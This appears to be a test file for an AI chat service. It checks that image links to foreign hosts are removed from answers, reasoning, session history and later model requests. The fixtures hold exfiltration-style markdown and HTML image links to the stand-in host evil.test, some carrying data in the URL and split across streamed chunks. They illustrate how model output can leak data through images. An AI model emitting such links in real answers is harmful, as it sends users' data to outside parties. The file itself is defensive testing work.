import assert from 'node:assert/strict'
import { test } from 'node:test'
import { doors, idOf, type Send } from '../doors/doors.ts'
import { startContained } from '../fixtures/contained.ts'

const stripping = { answers: 'strip_images', outbound_hosts: ['cdn.example.com'] }
const own = '![logo](https://cdn.example.com/logo.png) ![plan](/core/v1/sessions/s/artifacts/plan.svg)'
const pieces = [
  'Sales are up!',
  ' ![ch',
  'art](http://ev',
  'il.test/?d=4711) ',
  own,
  '<img src="http://evil',
  '.test/x" alt="A cat">\n\n![map][m]\n\n[m',
  ']: http://evil.test/m',
]
const shown = `Sales are up! chart ${own} A cat\n\nmap\n\n`

test('Containment: no door shows a picture of a foreign host, and the session has none', async (t) => {
  const service = await startContained(t, stripping, { script: { text: pieces, reasoning: ['See ![a](http://evil', '.test/r)'] } })
  const { key } = await service.key()
  for (const [name, door] of Object.entries(doors)) {
    const replies: string[] = []
    const send: Send = async (method, path, body, headers = {}) => {
      const sent = { 'x-service-access': key, ...(body !== undefined && { 'content-type': 'application/json' }), ...headers }
      const response = await fetch(service.url + path, { method, headers: sent, ...(body !== undefined && { body: JSON.stringify(body) }) })
      replies.push(await response.text())
      return replies.at(-1)!
    }
    await door({ send, scenario: { turns: [] }, question: 'How are sales?', id: idOf(name, 'images') })
    const seen = replies.join('\n')
    assert.match(seen, /Sales are up/, name)
    assert.doesNotMatch(seen, /evil|4711/, name)
    assert.match(seen, /cdn\.example\.com/, name)
  }
  const answer = await service.client.chat('How are sales?', { 'session-id': 'images' })
  assert.equal(answer.body.body.output, shown)
  const session = await service.client.request('GET', '/core/v1/sessions/images')
  assert.equal(session.body.messages.at(-1).content, shown)
  const { requests } = service.model
  await service.client.chat('And now?', { 'session-id': 'images' })
  assert.doesNotMatch(JSON.stringify(requests.at(-1)!.body.messages), /evil\.test\/\?d/)
})

test('Containment: pictures of the service itself stay, and without the setting all pictures', async (t) => {
  const service = await startContained(t, stripping, { script: { text: ['![plan](', 'OWN/plan.svg) ![x](http://evil.test/x)'] } })
  const text = `![plan](${service.url}/plan.svg) ![x](http://evil.test/x)`
  const speaking = await startContained(t, stripping, { script: { text } })
  const plain = await startContained(t, undefined, { script: { text } })
  assert.equal((await plain.client.chat('Draw.')).body.body.output, text)
  assert.equal((await speaking.client.chat('Draw.')).body.body.output, 'plan x')
})
